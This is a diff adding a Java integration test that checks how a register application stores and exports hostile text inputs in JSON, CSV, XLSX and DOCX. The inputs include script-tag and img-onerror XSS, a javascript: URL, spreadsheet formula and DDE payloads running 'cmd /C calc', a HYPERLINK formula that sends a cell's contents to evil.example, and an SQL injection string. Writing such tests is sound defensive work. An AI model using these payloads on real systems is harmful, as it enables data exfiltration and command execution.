@@ -23,7 +23,11 @@ import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 import java.util.stream.Stream;
 import java.util.zip.ZipEntry;
+import java.util.zip.ZipInputStream;
 import java.util.zip.ZipOutputStream;
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.apache.poi.xwpf.usermodel.XWPFDocument;
 import org.junit.jupiter.api.DynamicContainer;
 import org.junit.jupiter.api.DynamicNode;
 import org.junit.jupiter.api.DynamicTest;
@@ -260,6 +264,123 @@ class HostileInputIT extends ApplicationIT {
         tests.add(DynamicTest.dynamicTest("not multipart", () -> assertRefused("not multipart", api.as("admin")
                 .send("POST", "/api/v1/registers/" + register + "/import", "text/csv", bytes(header + line)))));
         return tests.stream();
+    }
+
+    /**
+     * Script, markup and formula payloads typed as legitimate text are kept: they come back verbatim in JSON
+     * (served as JSON with nosniff, never rendered), and are inert in every file: XLSX cells are strings (never
+     * formulas), DOCX text is escaped XML, and a CSV cell a spreadsheet would take for a formula starts with an
+     * apostrophe, which the import takes off again. The published hash and its verification follow the same text.
+     */
+    @Test
+    void scriptAndFormulaPayloadsComeBackVerbatimInJsonAndAreInertInFiles() throws Exception {
+        String script = "<script>alert('перечень')</script>";
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")";
+        String dde = "+cmd|' /C calc'!A0";
+        String sum = "@SUM(1+1)";
+        String minus = "-2+3+cmd|' /C calc'!A0";
+        String sql = "'; drop table q_row; --";
+        String markup = "<img src=x onerror=alert(1)>";
+        String register = newRegister();
+        String first = ok(api.as("initiator").post("/api/v1/registers/" + register + "/changes", Map.of("kind", "ADD",
+                "reason", "NEW_TOUCHPOINT", "comment", markup, "row", Map.of("direction", "Предоставление государственных услуг",
+                        "process", LICENSING_PROCESS, "touchpoint", Map.of("name", script, "channel", "DIGITAL",
+                                "address", "javascript:alert(1)"), "needs", List.of(1), "interaction", hyperlink,
+                        "features", dde)))).json().get("changeId").asString();
+        String second = ok(api.as("initiator").post("/api/v1/registers/" + register + "/changes", Map.of("kind", "ADD",
+                "reason", "NEW_TOUCHPOINT", "row", Map.of("direction", "Предоставление государственных услуг",
+                        "process", LICENSING_PROCESS, "touchpoint", Map.of("name", sum, "channel", "OFFLINE"),
+                        "needs", List.of(2), "interaction", sql, "features", minus)))).json().get("changeId").asString();
+        for (String change : List.of(first, second)) {
+            ok(api.as("division-head").post("/api/v1/changes/" + change + "/division-approval", "{}"));
+            ok(api.as("deputy").post("/api/v1/changes/" + change + "/deputy-approval", "{}"));
+        }
+
+        Api.Response rows = ok(api.as("auditor").get("/api/v1/registers/" + register + "/rows"));
+        assertThat(rows.contentType()).startsWith("application/json");
+        assertThat(rows.header("X-Content-Type-Options")).isEqualTo("nosniff");
+        JsonNode row = rows.json().get(0);
+        assertThat(row.get("touchpoint").get("name").asString()).isEqualTo(script);
+        assertThat(row.get("touchpoint").get("address").asString()).isEqualTo("javascript:alert(1)");
+        assertThat(row.get("interaction").asString()).isEqualTo(hyperlink);
+        assertThat(row.get("features").asString()).isEqualTo(dde);
+        assertThat(rows.json().get(1).get("interaction").asString()).isEqualTo(sql);
+        assertThat(ok(api.as("auditor").get("/api/v1/changes/" + first)).json().get("timeline").get(0).get("comment")
+                .asString()).isEqualTo(markup);
+
+        String csv = new String(api.as("auditor").bytes("/api/v1/registers/" + register + "/export?format=csv"),
+                StandardCharsets.UTF_8);
+        List<String> cells = csvCells(csv);
+        assertThat(cells).as("no cell starts like a formula").noneMatch(c -> !c.isEmpty() && "=+-@".indexOf(c.charAt(0)) >= 0);
+        assertThat(cells).contains("'" + hyperlink, "'" + dde, "'" + sum, "'" + minus, script + " javascript:alert(1)", sql);
+
+        String copy = newRegister();
+        ok(api.as("admin").postMultipart("/api/v1/registers/" + copy + "/import", "export.csv", bytes(csv)));
+        JsonNode imported = ok(api.as("auditor").get("/api/v1/registers/" + copy + "/rows")).json();
+        assertThat(imported.get(0).get("interaction").asString()).as("the import takes the apostrophe off").isEqualTo(hyperlink);
+        assertThat(imported.get(1).get("features").asString()).isEqualTo(minus);
+
+        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(
+                api.as("auditor").bytes("/api/v1/registers/" + register + "/export?format=xlsx")))) {
+            List<String> texts = new ArrayList<>();
+            book.getSheetAt(0).forEach(r -> r.forEach(c -> {
+                assertThat(c.getCellType()).as("cell %s", c.getAddress()).isIn(CellType.STRING, CellType.BLANK);
+                texts.add(c.getStringCellValue());
+            }));
+            assertThat(texts).contains(hyperlink, dde, sum, minus);
+        }
+        byte[] docx = api.as("auditor").bytes("/api/v1/registers/" + register + "/export?format=docx");
+        String documentXml = new String(unzipped(docx, "word/document.xml"), StandardCharsets.UTF_8);
+        assertThat(documentXml).contains("&lt;script").doesNotContain("<script");
+        try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(docx))) {
+            assertThat(document.getTables().get(0).getText()).contains(script, hyperlink);
+        }
+
+        ok(api.as("publisher").post("/api/v1/registers/" + register + "/publications", Map.of("url", "https://example.gov.ru/p")));
+        assertThat(ok(api.as("auditor").get("/api/v1/registers/" + register + "/publications/verify")).json()
+                .get("valid").asBoolean()).isTrue();
+        byte[] published = api.as("auditor").bytes("/api/v1/registers/" + register + "/export?format=csv&version=1");
+        assertThat(ok(api.as("auditor").postMultipart("/api/v1/registers/" + register + "/publications/verify-file",
+                "v1.csv", published)).json().get("matchesVersion").asInt()).isEqualTo(1);
+    }
+
+    /** The cells of an RFC 4180 text, quotes removed. */
+    private static List<String> csvCells(String csv) {
+        List<String> cells = new ArrayList<>();
+        StringBuilder cell = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < csv.length(); i++) {
+            char c = csv.charAt(i);
+            if (quoted) {
+                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
+                    cell.append('"');
+                    i++;
+                } else if (c == '"') {
+                    quoted = false;
+                } else {
+                    cell.append(c);
+                }
+            } else if (c == '"') {
+                quoted = true;
+            } else if (c == ',' || c == '\n') {
+                cells.add(cell.toString());
+                cell.setLength(0);
+            } else if (c != '\r') {
+                cell.append(c);
+            }
+        }
+        return cells;
+    }
+
+    private static byte[] unzipped(byte[] zip, String entry) throws IOException {
+        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
+            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
+                if (e.getName().equals(entry)) {
+                    return in.readAllBytes();
+                }
+            }
+        }
+        throw new AssertionError("No " + entry);
     }
 
     private static byte[] zip(Map<String, byte[]> entries) throws IOException {
